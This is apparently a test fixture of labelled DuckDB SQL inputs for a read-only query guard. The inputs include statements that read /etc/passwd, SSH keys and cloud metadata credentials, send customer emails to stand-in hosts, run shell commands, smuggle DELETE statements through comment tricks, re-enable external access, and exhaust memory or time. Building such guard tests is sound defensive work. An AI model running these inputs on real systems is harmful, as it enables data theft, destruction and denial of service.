-- write: plain insert
INSERT INTO customer (id, name, email, balance_cents) VALUES (9001, 'Mallory', 'm@example.invalid', 1)
---
-- write: insert by name
INSERT INTO customer BY NAME SELECT 9002 AS id, 'n' AS name
---
-- write: insert or replace
INSERT OR REPLACE INTO customer VALUES (1, 'x', 'x', 0)
---
-- write: insert or ignore
INSERT OR IGNORE INTO customer VALUES (1, 'x', 'x', 0)
---
-- write: insert on conflict do update returning
INSERT INTO orders (id, status) VALUES (1, 'x') ON CONFLICT (id) DO UPDATE SET status = EXCLUDED.status RETURNING *
---
-- write: insert default values
INSERT INTO orders DEFAULT VALUES
---
-- write: insert from a from-first query
INSERT INTO customer FROM customer SELECT id + 100000, name, email, balance_cents
---
-- write: insert the text of a file
INSERT INTO customer (id, name) SELECT 9003, content FROM read_text('{outside}')
---
-- write: plain update
UPDATE customer SET balance_cents = 100000000
---
-- write: update with from and returning
UPDATE orders AS o SET status = 'void' FROM customer c WHERE c.id = o.customer_id RETURNING o.id
---
-- write: plain delete
DELETE FROM orders
---
-- write: delete using returning
DELETE FROM orders USING customer c WHERE orders.customer_id = c.id RETURNING *
---
-- write: delete of a qualified table
DELETE FROM memory.main.orders
---
-- write: mixed case with line breaks
dElEtE
	FrOm
	"orders"
	wHeRe id > 0
---
-- write: truncate
TRUNCATE orders
---
-- write: truncate table
TRUNCATE TABLE main.orders
---
-- write: merge into
MERGE INTO orders o USING (SELECT 1 AS id) s ON o.id = s.id WHEN MATCHED THEN DELETE
---
-- write: merge into with using and returning
MERGE INTO customer USING (SELECT 9004 AS id, 'm' AS name) s USING (id) WHEN MATCHED THEN UPDATE SET name = s.name WHEN NOT MATCHED THEN INSERT BY NAME RETURNING merge_action, *
---
-- write: explain analyze insert
EXPLAIN ANALYZE INSERT INTO customer (id) VALUES (9005)
---
-- write: explain analyze delete in json
EXPLAIN (ANALYZE, FORMAT json) DELETE FROM orders
---
-- write: explain analyze create table
EXPLAIN ANALYZE CREATE TABLE evil_e AS FROM customer
---
-- write: explain analyze copy
EXPLAIN ANALYZE COPY customer TO '{target}'
---
-- write: explain of a delete, no analyze
EXPLAIN DELETE FROM orders
---
-- write: explain analyse spelled the other way
EXPLAIN ANALYSE UPDATE customer SET name = 'x'
---
-- write: select into as another server would have it
SELECT * INTO stolen FROM customer
---
-- write: describe of a delete
DESCRIBE DELETE FROM orders
---
-- write: summarize of a file
SUMMARIZE FROM read_csv('{outside}', header = false, all_varchar = true)
---
-- ddl: create table
CREATE TABLE evil (a INT)
---
-- ddl: create or replace table as
CREATE OR REPLACE TABLE orders AS SELECT 1 AS id
---
-- ddl: create table as from-first
CREATE TABLE evil_from AS FROM customer
---
-- ddl: create temp table
CREATE TEMP TABLE customer AS SELECT 1 AS id
---
-- ddl: create table as of a file
CREATE TABLE evil_file AS SELECT * FROM '{outside}'
---
-- ddl: create table with a generated column
CREATE TABLE IF NOT EXISTS evil_gen (a INT, b INT GENERATED ALWAYS AS (a + 1) VIRTUAL, CHECK (a > 0))
---
-- ddl: create view
CREATE OR REPLACE VIEW customer_v AS FROM customer
---
-- ddl: create temp view that shadows the table
CREATE OR REPLACE TEMPORARY VIEW customer AS SELECT * FROM read_text('{outside}')
---
-- ddl: create recursive view
CREATE RECURSIVE VIEW bomb_v (n) AS SELECT 1 UNION ALL SELECT n + 1 FROM bomb_v
---
-- ddl: create macro
CREATE MACRO evil_macro(x) AS x + 1
---
-- ddl: create macro that returns a table
CREATE OR REPLACE MACRO evil_table_macro(p) AS TABLE SELECT * FROM read_text(p)
---
-- ddl: create temp macro that shadows a built-in
CREATE TEMP MACRO lower(x) AS (SELECT content FROM read_text('{outside}'))
---
-- ddl: create function
CREATE FUNCTION evil_fn(a, b := 2) AS a * b
---
-- ddl: create schema
CREATE SCHEMA IF NOT EXISTS evil_schema
---
-- ddl: create sequence
CREATE SEQUENCE evil_seq START 1 CYCLE
---
-- ddl: create index
CREATE UNIQUE INDEX evil_idx ON customer (email)
---
-- ddl: create type
CREATE TYPE evil_enum AS ENUM ('a', 'b')
---
-- ddl: create type from a query
CREATE TYPE evil_enum_q AS ENUM (SELECT name FROM customer)
---
-- ddl: create secret
CREATE SECRET evil_secret (TYPE s3, KEY_ID 'a', SECRET 'b', ENDPOINT '127.0.0.1:9')
---
-- ddl: create persistent secret
CREATE OR REPLACE PERSISTENT SECRET evil_secret IN local_file (TYPE http, BEARER_TOKEN 'x')
---
-- ddl: create secret by the chain of the machine's credentials
CREATE SECRET (TYPE s3, PROVIDER credential_chain)
---
-- ddl: drop secret
DROP PERSISTENT SECRET IF EXISTS evil_secret FROM local_file
---
-- ddl: create trigger
CREATE TRIGGER evil_trg AFTER INSERT ON customer FOR EACH STATEMENT DELETE FROM orders
---
-- ddl: alter table add column
ALTER TABLE customer ADD COLUMN x INT DEFAULT 1
---
-- ddl: alter table drop column
ALTER TABLE orders DROP COLUMN status
---
-- ddl: alter table rename
ALTER TABLE orders RENAME TO o2
---
-- ddl: alter table alter type with a query
ALTER TABLE orders ALTER status TYPE TEXT USING concat(status, 'x')
---
-- ddl: alter table of a primary key
ALTER TABLE orders ADD PRIMARY KEY (status)
---
-- ddl: alter view
ALTER VIEW customer_v RENAME TO customer_w
---
-- ddl: alter sequence
ALTER SEQUENCE evil_seq OWNED BY customer
---
-- ddl: alter database
ALTER DATABASE memory RENAME TO evil_db
---
-- ddl: comment on a table
COMMENT ON TABLE customer IS 'owned'
---
-- ddl: comment on a column
COMMENT ON COLUMN customer.email IS NULL
---
-- ddl: drop table
DROP TABLE orders
---
-- ddl: drop table cascade
DROP TABLE IF EXISTS main.orders CASCADE
---
-- ddl: drop schema
DROP SCHEMA main CASCADE
---
-- ddl: drop macro, view, sequence, index, type
DROP MACRO TABLE evil_table_macro
---
-- ddl: create database of another server
CREATE DATABASE evil_db
---
-- ddl: grant of another server
GRANT ALL ON customer TO PUBLIC
---
-- comments: nested comment closes early for a scanner that does not nest
SELECT 1 /* a /* b */ c */ ; DELETE FROM orders; /* d */
---
-- comments: nested comment hides the write from a scanner that does not nest
/* /* */ SELECT 1; -- */ DELETE FROM orders
---
-- comments: comment marks within strings
SELECT '/*'; DELETE FROM orders; SELECT '*/'
---
-- comments: dash comment with the statement on the following line
SELECT 1 -- ' ; harmless
; DELETE FROM orders -- '
---
-- comments: dash comment without a blank
SELECT 1--1
;DELETE FROM orders
---
-- comments: comments instead of blanks
DELETE/**/FROM/**/orders/**/WHERE/**/id>0
---
-- comments: comment between name and parenthesis
SELECT * FROM read_text /* x */ -- (
('{outside}')
---
-- comments: comment between from and the file name
SELECT * FROM/**/'{outside}'
---
-- comments: mysql executable comment is only a comment here
/*!50000 SELECT 1 */ DELETE FROM orders
---
-- comments: unterminated comment
SELECT 1; DELETE FROM orders /* never closed
---
-- comments: quoted names with comment marks
SELECT 1 AS "/*"; DELETE FROM orders; SELECT 2 AS "*/"
---
-- comments: hash is no comment but names a column by its position
SELECT #1 FROM customer ; DELETE FROM orders; -- #
---
-- comments: carriage return ends a line comment
SELECT 1 -- 
; DELETE FROM orders
---
-- several: second statement writes
SELECT 1; DELETE FROM orders
---
-- several: second statement drops
SELECT * FROM customer; DROP TABLE orders; --
---
-- several: commit and write
COMMIT; DELETE FROM orders
---
-- several: rollback, begin and write
ROLLBACK; BEGIN TRANSACTION; DELETE FROM orders; COMMIT
---
-- several: begin read only and write
ABORT; BEGIN TRANSACTION READ ONLY; COMMIT; BEGIN TRANSACTION READ WRITE; UPDATE customer SET name = 'x'; END
---
-- several: begin alone
BEGIN
---
-- several: start transaction
START TRANSACTION READ WRITE
---
-- several: commit alone
COMMIT
---
-- several: rollback alone
ROLLBACK
---
-- several: empty statements
;;; SELECT 1 ;;; DELETE FROM orders ;;;
---
-- several: semicolon within a string, a name and a dollar string
SELECT ';', 1 AS ";", $$;$$; DELETE FROM orders
---
-- several: pivot expands to more than one statement
PIVOT orders ON status USING count(*); DELETE FROM orders
---
-- several: dot commands of the shell
.shell touch {target}
---
-- several: dot command system
.system touch {target}
---
-- several: dot command output
.output {target}
SELECT * FROM customer;
---
-- several: dot command once to a pipe
.once '| touch {target}'
SELECT 1;
---
-- several: dot command read
.read {outside}
---
-- several: dot command open
.open {target}
---
-- several: dot command import
.import {outside} customer
---
-- several: dot command log and dump
.log {target}
.dump
---
-- cte: with before a delete
WITH x AS (SELECT id FROM customer) DELETE FROM orders WHERE customer_id IN (SELECT id FROM x)
---
-- cte: with before an update
WITH x AS (SELECT 1 AS id) UPDATE customer SET name = 'x' FROM x WHERE x.id = customer.id
---
-- cte: with before an insert
WITH x AS (SELECT 9010 AS id) INSERT INTO customer (id) SELECT id FROM x RETURNING *
---
-- cte: delete returning within a cte
WITH x AS (DELETE FROM orders RETURNING *) SELECT * FROM x
---
-- cte: insert returning within a cte
WITH x AS (INSERT INTO customer (id) VALUES (9011) RETURNING id) SELECT * FROM x
---
-- cte: update returning within a materialized cte
WITH x AS MATERIALIZED (UPDATE orders SET status = 'x' RETURNING id) FROM x
---
-- cte: writing cte that is never read
WITH x AS (DELETE FROM orders) SELECT count(*) FROM customer
---
-- cte: write is the second of three
WITH a AS (SELECT 1 AS n), b AS (DELETE FROM orders RETURNING id), c AS (FROM a) FROM c
---
-- cte: nested with
SELECT * FROM (WITH i AS (DELETE FROM orders RETURNING *) SELECT * FROM i) q
---
-- cte: with of a file
WITH f AS (FROM '{outside}') SELECT * FROM f
---
-- cte: name hides a file read in a subquery
WITH customer AS (SELECT * FROM read_blob('{outside}')) SELECT * FROM customer
---
-- cte: merge with a cte
WITH s AS (SELECT 1 AS id) MERGE INTO orders USING s ON s.id = orders.id WHEN MATCHED THEN DELETE
---
-- copy: copy to a file
COPY customer TO '{target}'
---
-- copy: copy a query to parquet
COPY (SELECT * FROM customer) TO '{target}' (FORMAT parquet, COMPRESSION zstd)
---
-- copy: copy a from-first query to json
COPY (FROM customer) TO '{target}' (FORMAT json, ARRAY true)
---
-- copy: copy partitioned
COPY orders TO '{target}' (FORMAT csv, PARTITION_BY (status), OVERWRITE_OR_IGNORE)
---
-- copy: copy by thread and file size
COPY orders TO '{target}' (FORMAT parquet, PER_THREAD_OUTPUT true, FILENAME_PATTERN 'evil_{i}')
---
-- copy: copy from a file
COPY customer FROM '{outside}' (DELIMITER ':', HEADER false)
---
-- copy: copy from a file with automatic detection
COPY customer (name) FROM '{outside}' (AUTO_DETECT true)
---
-- copy: copy to standard output as a file
COPY customer TO '/dev/stdout' (FORMAT csv)
---
-- copy: copy to stdout
COPY customer TO STDOUT
---
-- copy: copy to a url
COPY customer TO 's3://example-invalid/evil.parquet'
---
-- copy: copy from database
COPY FROM DATABASE memory TO evil_db
---
-- copy: copy from database, schema only
COPY FROM DATABASE memory TO evil_db (SCHEMA)
---
-- copy: copy of a writing statement
COPY (DELETE FROM orders RETURNING *) TO '{target}'
---
-- copy: copy with returned files
COPY (SELECT 1) TO '{target}' (RETURN_FILES true)
---
-- copy: copy by an expression as the file name
COPY (SELECT 1) TO ('{target}' || '.csv')
---
-- copy: copy by a variable as the file name
SET VARIABLE f = '{target}'; COPY customer TO (getvariable('f'))
---
-- copy: copy as a blob
COPY (SELECT 'owned'::BLOB AS content) TO '{target}' (FORMAT blob)
---
-- copy: copy as text without quotes
COPY (SELECT 'owned') TO '{target}' WITH (FORMAT csv, HEADER false, QUOTE '')
---
-- copy: copy to a program of another server
COPY customer TO PROGRAM 'touch {target}'
---
-- copy: copy in a pipe suffix
COPY (SELECT 1) TO '| touch {target}'
---
-- copy: export database
EXPORT DATABASE '{target}'
---
-- copy: export database as parquet
EXPORT DATABASE '{target}' (FORMAT parquet, ROW_GROUP_SIZE 1000)
---
-- copy: export of one database
EXPORT DATABASE memory TO '{target}'
---
-- copy: import database
IMPORT DATABASE '{outside}'
---
-- copy: import database by a pragma
PRAGMA import_database('{outside}')
---
-- copy: copy database by a pragma
PRAGMA copy_database('memory', 'evil_db')
---
-- files: read_csv
SELECT * FROM read_csv('{outside}')
---
-- files: read_csv with all options
SELECT * FROM read_csv('{outside}', delim = ':', header = false, columns = {'a': 'VARCHAR'}, ignore_errors = true, strict_mode = false, null_padding = true)
---
-- files: read_csv_auto
FROM read_csv_auto('{outside}')
---
-- files: read_csv of a list of names
SELECT * FROM read_csv(['{outside}', '/etc/group'], union_by_name = true, filename = true)
---
-- files: read_csv by a glob
SELECT * FROM read_csv('/etc/*.conf', sep = chr(1), header = false)
---
-- files: read_csv stores its rejects
SELECT * FROM read_csv('{outside}', store_rejects = true, rejects_table = 'evil_rejects')
---
-- files: read_text
SELECT content FROM read_text('{outside}')
---
-- files: read_text by a glob of two stars
SELECT filename, size FROM read_text('/etc/**/*')
---
-- files: read_text in a scalar subquery
SELECT id, (SELECT content FROM read_text('{outside}')) FROM customer
---
-- files: read_text in a lateral join
SELECT * FROM customer, LATERAL (SELECT * FROM read_text('{outside}'))
---
-- files: read_text quoted
SELECT * FROM "read_text"('{outside}')
---
-- files: read_text qualified
SELECT * FROM main.read_text('{outside}')
---
-- files: read_text qualified by catalog and schema, quoted, with blanks
SELECT * FROM "system" . "main" . "read_text" ('{outside}')
---
-- files: read_text in upper case
FROM READ_TEXT('{outside}')
---
-- files: read_text of a cast in parentheses
SELECT * FROM read_text((('{outside}')::VARCHAR))
---
-- files: read_blob
SELECT base64(content) FROM read_blob('{outside}')
---
-- files: read_blob of process files
SELECT * FROM read_blob('/proc/self/environ')
---
-- files: read_text of the command line of the process
SELECT * FROM read_text('/proc/self/cmdline')
---
-- files: read_parquet
SELECT * FROM read_parquet('{outside}')
---
-- files: parquet_scan with hive partitions
SELECT * FROM parquet_scan('/tmp/*/*.parquet', hive_partitioning = true)
---
-- files: parquet_metadata and parquet_schema
SELECT * FROM parquet_metadata('{outside}'), parquet_schema('{outside}')
---
-- files: parquet_file_metadata, parquet_kv_metadata, parquet_bloom_probe
SELECT * FROM parquet_file_metadata('{outside}'), parquet_kv_metadata('{outside}'), parquet_bloom_probe('{outside}', 'a', 1)
---
-- files: parquet_full_metadata and page index
SELECT * FROM parquet_full_metadata('{outside}') UNION ALL BY NAME FROM parquet_page_index('{outside}')
---
-- files: read_json
SELECT * FROM read_json('{outside}')
---
-- files: read_json_auto and read_json_objects
SELECT * FROM read_json_auto('{outside}'), read_json_objects('{outside}')
---
-- files: read_json_objects_auto, read_ndjson, read_ndjson_auto, read_ndjson_objects
FROM read_ndjson_objects('{outside}') UNION ALL BY NAME FROM read_ndjson('{outside}') UNION ALL BY NAME FROM read_ndjson_auto('{outside}') UNION ALL BY NAME FROM read_json_objects_auto('{outside}')
---
-- files: the readers of one file only
FROM read_single_csv_file('{outside}') UNION ALL BY NAME FROM read_single_json_file('{outside}') UNION ALL BY NAME FROM read_single_parquet_file('{outside}')
---
-- files: read_duckdb
SELECT * FROM read_duckdb('{outside}', table_name = 'customer')
---
-- files: read_xlsx
SELECT * FROM read_xlsx('{outside}', all_varchar = true)
---
-- files: st_read
SELECT * FROM ST_Read('{outside}')
---
-- files: read_avro, iceberg_scan, delta_scan
SELECT * FROM iceberg_scan('{outside}') UNION ALL BY NAME FROM delta_scan('{outside}') UNION ALL BY NAME FROM read_avro('{outside}')
---
-- files: sniff_csv
SELECT * FROM sniff_csv('{outside}')
---
-- files: glob
SELECT * FROM glob('/etc/*')
---
-- files: glob from-first with two stars
FROM glob('/srv/**/.ssh/*')
---
-- files: file name as a table
SELECT * FROM '{outside}'
---
-- files: file name as a table, from-first
FROM '{outside}'
---
-- files: file name as a table in double quotes
SELECT * FROM "{outside}"
---
-- files: file name as a table with an alias and a join
SELECT * FROM customer c JOIN '/tmp/*.csv' AS f ON true
---
-- files: file name with the csv ending
FROM '/tmp/evil.csv' SELECT *
---
-- files: file name in a from-first select without a list, limited
FROM "/tmp/evil.parquet" LIMIT 5
---
-- files: file name within in
SELECT * FROM customer WHERE name IN (FROM '{outside}')
---
-- files: file name by the table statement
TABLE '{outside}'
---
-- files: file name by describe
DESCRIBE '{outside}'
---
-- files: file name by describe table
DESCRIBE TABLE '{outside}'
---
-- files: file name by summarize
SUMMARIZE '{outside}'
---
-- files: file name by summarize, double quotes
SUMMARIZE "{outside}"
---
-- files: file name by show
SHOW '/tmp/evil.csv'
---
-- files: file name by pivot
PIVOT '{outside}' ON a USING count(*)
---
-- files: file name by unpivot
UNPIVOT '{outside}' ON COLUMNS(*) INTO NAME n VALUE v
---
-- files: file name within a pivot clause
SELECT * FROM '/tmp/evil.csv' PIVOT (count(*) FOR a IN (1, 2))
---
-- files: file name by a positional join
SELECT * FROM customer POSITIONAL JOIN '{outside}'
---
-- files: file name by an asof join
SELECT * FROM orders ASOF JOIN '{outside}' f ON orders.id >= f.id
---
-- files: file name in a dollar string function argument
SELECT * FROM read_text($$/etc/passwd$$)
---
-- files: path in an escape string
SELECT * FROM read_text(E'\x2fetc\x2fpasswd')
---
-- files: path of pieces
SELECT * FROM read_text('/e' || 'tc/' || 'passwd')
---
-- files: path by chr and reverse
SELECT * FROM read_text(concat(chr(47), 'etc', chr(47), reverse('dwssap')))
---
-- files: path from base64
SELECT * FROM read_text(from_base64('L2V0Yy9wYXNzd2Q=')::VARCHAR)
---
-- files: path from a variable
SET VARIABLE p = '{outside}'; SELECT * FROM read_text(getvariable('p'))
---
-- files: path with a file scheme
SELECT * FROM read_text('file:///etc/passwd')
---
-- files: path with a file scheme and a host
FROM read_text('file://localhost/etc/passwd')
---
-- files: path that climbs
SELECT * FROM read_text('../../../../../../../../etc/passwd')
---
-- files: path of the home directory
SELECT * FROM read_text('~/.ssh/id_rsa')
---
-- files: path through proc root
FROM read_text('/proc/self/var/etc/passwd')
---
-- files: path with doubled slashes and dots
FROM read_text('//etc/./passwd')
---
-- files: path in a list comprehension
SELECT * FROM read_text([x FOR x IN ['{outside}'] IF true])
---
-- files: standard input
SELECT * FROM read_csv('/dev/stdin')
---
-- files: a device that never ends
SELECT * FROM read_blob('/dev/zero')
---
-- files: attach
ATTACH '{outside}' AS f
---
-- files: attach writes a new file
ATTACH '{target}' AS t; CREATE TABLE t.stolen AS FROM customer
---
-- files: attach if not exists read only
ATTACH IF NOT EXISTS '{outside}' AS f (READ_ONLY)
---
-- files: attach or replace
ATTACH OR REPLACE '{target}' AS memory
---
-- files: attach with encryption and block size
ATTACH '{target}' AS e (ENCRYPTION_KEY 'x', BLOCK_SIZE 16384)
---
-- files: attach in memory
ATTACH ':memory:' AS evil_db
---
-- files: attach as sqlite
ATTACH '{outside}' AS s (TYPE sqlite)
---
-- files: detach
DETACH DATABASE IF EXISTS memory
---
-- files: sqlite_scan
SELECT * FROM sqlite_scan('{outside}', 'customer')
---
-- files: sqlite_attach
CALL sqlite_attach('{outside}')
---
-- files: sqlite_query
SELECT * FROM sqlite_query('{outside}', 'SELECT 1')
---
-- files: encryption key of parquet by a pragma, then a read
PRAGMA add_parquet_key('k', '0123456789112345'); SELECT * FROM read_parquet('{outside}', encryption_config = {'footer_key': 'k'})
---
-- files: external file cache
SELECT * FROM duckdb_external_file_cache()
---
-- files: temporary files
FROM duckdb_temporary_files()
---
-- network: http url as a table
SELECT * FROM 'http://127.0.0.1:9/evil.csv'
---
-- network: https url with data in it
SELECT * FROM read_text('https://example.invalid/?d=' || (SELECT string_agg(email, ',') FROM customer))
---
-- network: url in read_csv
FROM read_csv('https://example.invalid/evil.csv')
---
-- network: s3, gcs, r2, hf, azure urls
SELECT * FROM read_parquet(['s3://b/k', 'gcs://b/k', 'r2://b/k', 'hf://datasets/a/b.parquet', 'azure://c/b'])
---
-- network: metadata service of a cloud
SELECT * FROM read_text('http://169.254.169.254/latest/meta-data/iam/security-credentials/')
---
-- network: attach over http
ATTACH 'https://example.invalid/evil.duckdb' AS remote_db
---
-- network: attach of postgres
ATTACH 'host=127.0.0.1 port=9 user=postgres' AS pg (TYPE postgres)
---
-- network: attach of mysql
ATTACH 'host=127.0.0.1 port=9 user=root' AS my (TYPE mysql)
---
-- network: attach of ducklake
ATTACH 'ducklake:{target}' AS lake (DATA_PATH '/tmp/')
---
-- network: attach of the maker's cloud
ATTACH 'md:'
---
-- network: postgres_query
SELECT * FROM postgres_query('pg', 'DELETE FROM orders RETURNING *')
---
-- network: postgres_scan
SELECT * FROM postgres_scan('host=127.0.0.1 port=9', 'public', 'customer')
---
-- network: postgres_execute
CALL postgres_execute('pg', 'DROP TABLE orders')
---
-- network: mysql_query and mysql_execute
SELECT * FROM mysql_query('my', 'SELECT LOAD_FILE(''{outside}'')')
---
-- network: http functions of a community extension
SELECT http_post('http://example.invalid/', headers => MAP {'a': 'b'}, params => MAP {'d': (SELECT string_agg(email, ',') FROM customer)})
---
-- network: http server of a community extension
SELECT httpserve_start('0.0.0.0', 9999, 'user:pass')
---
-- network: shell functions of a community extension
SELECT * FROM read_csv('touch {target} |')
---
-- network: community extension that runs a command
SELECT * FROM read_sh('cat {outside}')
---
-- network: start the user interface
CALL start_ui()
---
-- network: start the user interface's server
CALL start_ui_server()
---
-- server: install
INSTALL httpfs
---
-- server: install from a repository
INSTALL spatial FROM community
---
-- server: force install from a url
FORCE INSTALL evil FROM 'http://127.0.0.1:9/'
---
-- server: install of a file
INSTALL '/tmp/evil.duckdb_extension'
---
-- server: load
LOAD httpfs
---
-- server: load of a file
LOAD '/tmp/evil.duckdb_extension'
---
-- server: install and load in one
INSTALL httpfs; LOAD httpfs; SELECT * FROM read_text('http://127.0.0.1:9/')
---
-- server: update extensions
UPDATE EXTENSIONS
---
-- server: update of one extension
UPDATE EXTENSIONS (httpfs, json)
---
-- server: checkpoint
CHECKPOINT
---
-- server: force checkpoint
FORCE CHECKPOINT memory
---
-- server: checkpoint as a table function
SELECT * FROM force_checkpoint()
---
-- server: checkpoint by call
CALL checkpoint()
---
-- server: vacuum
VACUUM
---
-- server: vacuum analyze of a table
VACUUM ANALYZE customer (name)
---
-- server: analyze
ANALYZE
---
-- server: reindex and cluster of another server
REINDEX TABLE customer
---
-- server: deallocate
DEALLOCATE PREPARE p
---
-- server: use
USE evil_db.main
---
-- server: use of the temporary catalog
USE temp
---
-- server: kill the process by an internal error
SELECT error('stop'), list_reduce([], (x, y) -> x + y)
---
-- server: enable logging to a file
CALL enable_logging(level = 'trace', storage = 'file', storage_path = '{target}')
---
-- server: enable logging as a table function
SELECT * FROM enable_logging('QueryLog')
---
-- server: disable logging and truncate the logs
CALL disable_logging(); CALL truncate_duckdb_logs()
---
-- server: enable profiling to a file
CALL enable_profiling(format = 'json', save_location = '{target}')
---
-- server: add a grammar extension
CALL add_grammar_extension('evil')
---
-- server: create an external resource
CALL create_external_resource('evil', MAP {'a': 'b'})
---
-- server: register and destroy external resources
SELECT * FROM destroy_external_resource('evil_fn', 'x')
---
-- locks: for update
SELECT * FROM customer FOR UPDATE
---
-- locks: for share nowait
SELECT * FROM customer FOR SHARE NOWAIT
---
-- locks: lock table of another server
LOCK TABLE customer IN ACCESS EXCLUSIVE MODE
---
-- time: sleep_ms
SELECT sleep_ms(60000)
---
-- time: sleep_ms in each row
SELECT sleep_ms(1000), * FROM customer, range(1000)
---
-- time: sleep_ms in order by and limit
SELECT id FROM customer ORDER BY sleep_ms(10000) LIMIT (SELECT 1 + coalesce(sleep_ms(10000)::INT, 0))
---
-- time: range bomb
SELECT count(*) FROM range(100000000000000)
---
-- time: range bomb in a list
SELECT range(10000000000)
---
-- time: generate_series bomb
SELECT sum(sqrt(generate_series)) FROM generate_series(1, 1000000000000)
---
-- time: generate_series bomb of dates
SELECT * FROM generate_series(TIMESTAMP '0001-01-01', TIMESTAMP '9999-12-31', INTERVAL 1 SECOND)
---
-- time: unnest bomb in the select list
SELECT unnest(range(1000000000)), unnest(range(1000000000))
---
-- time: range squared
SELECT count(*) FROM range(10000000) a, range(10000000) b WHERE a.range * b.range % 7 = 3
---
-- time: from-first range cubed
FROM range(1000000) a, range(1000000) b, range(1000000) c SELECT max(hash(a, b, c))
---
-- time: cross join bomb of the catalog
SELECT count(*) FROM duckdb_functions() a, duckdb_functions() b, duckdb_functions() c, duckdb_functions() d WHERE a.function_name || b.function_name > c.function_name || d.function_name
---
-- time: repeat as a table function
SELECT count(*), max(md5(a)) FROM repeat('x', 100000000000) t(a)
---
-- time: repeat_row as a table function
FROM repeat_row(1, 'x', num_rows = 100000000000)
---
-- time: repeat memory bomb
SELECT repeat('x', 4000000000)
---
-- time: repeat memory bomb by row
SELECT repeat(name, 100000000) FROM customer, range(10000)
---
-- time: repeat of a list
SELECT repeat([1, 2, 3], 1000000000)
---
-- time: repeat within repeat
SELECT length(repeat(repeat(repeat('x', 1000), 1000), 10000))
---
-- time: rpad and lpad memory bombs
SELECT rpad('x', 2000000000, 'y'), lpad('x', 2000000000, 'z')
---
-- time: string_agg bomb
SELECT string_agg(repeat('x', 1000000), '') FROM range(1000000)
---
-- time: list bomb
SELECT list(range) FROM range(100000000000)
---
-- time: array_agg of texts
SELECT array_agg(repeat('x', 100000) ORDER BY range DESC) FROM range(10000000)
---
-- time: list comprehension bomb
SELECT [x * y FOR x IN range(1000000000) IF x % 2 = 0] FROM range(10) t(y)
---
-- time: nested list comprehension bomb
SELECT [[[z FOR z IN range(10000)] FOR y IN range(10000)] FOR x IN range(10000)]
---
-- time: list_transform bomb
SELECT list_transform(range(1000000000), lambda x: list_sum(range(x)))
---
-- time: list_resize memory bomb
SELECT list_resize([1], 10000000000, 0)
---
-- time: list_reduce that doubles its text
SELECT length(list_reduce(list_transform(range(60), lambda x: 'x'), lambda a, b: a || a))
---
-- time: recursive cte without an end
WITH RECURSIVE r AS (SELECT 1 AS n UNION ALL SELECT n + 1 FROM r) SELECT count(*) FROM r
---
-- time: recursive cte that doubles its rows
WITH RECURSIVE r(n) AS (SELECT 1 UNION ALL SELECT n + x FROM r, (VALUES (0), (1)) v(x)) SELECT count(*) FROM r
---
-- time: recursive cte that doubles its text
WITH RECURSIVE r(s) AS (SELECT 'x' UNION ALL SELECT s || s FROM r) SELECT max(length(s)) FROM r
---
-- time: recursive cte by key
WITH RECURSIVE r(a, b) USING KEY (a) AS (SELECT 1, 1 UNION SELECT a, b + 1 FROM r) FROM r
---
-- time: window over everything
SELECT median(range) OVER (ORDER BY hash(range) ROWS BETWEEN UNBOUNDED PRECEDING AND UNBOUNDED FOLLOWING) FROM range(1000000000)
---
-- time: pivot over many values
PIVOT (SELECT range AS r FROM range(100000)) ON r USING count(*)
---
-- time: distinct and sort that fill the temporary directory
SELECT DISTINCT md5(range::VARCHAR) AS h FROM range(10000000000) ORDER BY h
---
-- time: bit strings and hexadecimal texts
SELECT bitstring('1', 2000000000), hex(repeat('x', 1000000000))
---
-- time: format with a huge width
SELECT format('{:2000000000}', 'x'), printf('%2000000000d', 1)
---
-- time: regular expression with a huge count
SELECT regexp_matches(repeat('a', 100000000), '(a{1,1000}){1,1000}$')
---
-- time: levenshtein of long texts
SELECT levenshtein(repeat('a', 1000000), repeat('b', 1000000))
---
-- time: factorial, power and cross products of json
SELECT json_structure(json_group_array(range)) FROM range(10000000000)
---
-- time: cube of many columns
SELECT count(*) FROM range(1000000) t(a) GROUP BY CUBE (a, a + 1, a + 2, a + 3, a + 4, a + 5, a + 6, a + 7, a + 8, a + 9, a + 10)
---
-- time: deep parentheses
SELECT ((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((sleep_ms(30000)))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))
---
-- settings: external access back on
SET enable_external_access = true
---
-- settings: external access back on in global scope
SET GLOBAL enable_external_access TO true
---
-- settings: external access by a pragma
PRAGMA enable_external_access = true
---
-- settings: external access by reset
RESET enable_external_access
---
-- settings: external access in mixed case and quoted
SET "Enable_External_Access" = 1
---
-- settings: allowed directories
SET allowed_directories = ['/']
---
-- settings: allowed paths
SET allowed_paths = ['{outside}', '{target}']
---
-- settings: lock_configuration off
SET lock_configuration = false
---
-- settings: reset lock_configuration
RESET GLOBAL lock_configuration
---
-- settings: temp_directory
SET temp_directory = '{target}'
---
-- settings: home and secret directory
SET home_directory = '/tmp'; SET secret_directory = '/tmp'
---
-- settings: extension directory and repository
SET extension_directory = '/tmp'; SET custom_extension_repository = 'http://127.0.0.1:9'
---
-- settings: unsigned extensions
SET allow_unsigned_extensions = true
---
-- settings: community extensions and autoload
SET autoinstall_known_extensions = 1; SET autoload_known_extensions = 1
---
-- settings: parser override extension
SET allow_parser_override_extension = 'fallback'
---
-- settings: disabled file systems
SET disabled_filesystems = ''
---
-- settings: log_query_path
SET log_query_path = '{target}'
---
-- settings: profiling output
SET enable_profiling = 'json'; SET profiling_output = '{target}'; SELECT 1
---
-- settings: profile output by a pragma
PRAGMA profile_output = '{target}'
---
-- settings: memory and threads
SET memory_limit = '1TB'; SET threads = 10000
---
-- settings: max_temp_directory_size and max_expression_depth
SET max_temp_directory_size = '10TB'; SET max_expression_depth = 1000000000
---
-- settings: max_execution_time
SET max_execution_time = 0
---
-- settings: access_mode
SET access_mode = 'read_write'
---
-- settings: search path
SET search_path = 'evil_schema,main'
---
-- settings: schema
SET schema = 'evil_schema'
---
-- settings: file search path
SET file_search_path = '/etc'
---
-- settings: unredacted secrets
SET allow_unredacted_secrets = true
---
-- settings: python scans of variables
SET python_enable_replacements = true; SET python_scan_all_frames = true
---
-- settings: http proxy
SET http_proxy = '127.0.0.1:9'; SET http_proxy_password = 'x'
---
-- settings: s3 settings
SET s3_endpoint = '127.0.0.1:9'; SET s3_access_key_id = 'x'
---
-- settings: set local
SET LOCAL enable_external_access = true
---
-- settings: set session
SET SESSION TimeZone = 'UTC'
---
-- settings: set variable
SET VARIABLE evil = (SELECT list(email) FROM customer)
---
-- settings: reset variable
RESET VARIABLE evil
---
-- settings: set by an expression
SET memory_limit = (SELECT '1' || 'TB')
---
